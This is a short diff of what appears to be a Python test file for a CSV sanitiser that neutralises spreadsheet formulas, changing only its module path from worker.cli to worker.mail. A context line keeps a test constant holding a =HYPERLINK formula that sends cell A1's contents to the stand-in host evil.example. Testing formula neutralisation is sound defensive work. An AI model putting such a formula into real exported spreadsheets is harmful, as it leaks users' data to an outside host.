@@ -1,4 +1,4 @@
-"""worker.cli.csvsafe: cells a spreadsheet would run as formulas are neutralised."""
+"""worker.mail.csvsafe: cells a spreadsheet would run as formulas are neutralised."""
 
 from __future__ import annotations
 
@@ -9,7 +9,7 @@ from datetime import UTC, datetime
 import pytest
 
 from worker.cli import audit
-from worker.cli.csvsafe import safe_cell, write_csv
+from worker.mail.csvsafe import safe_cell, write_csv
 from worker.models import AuditRow, Outcome
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
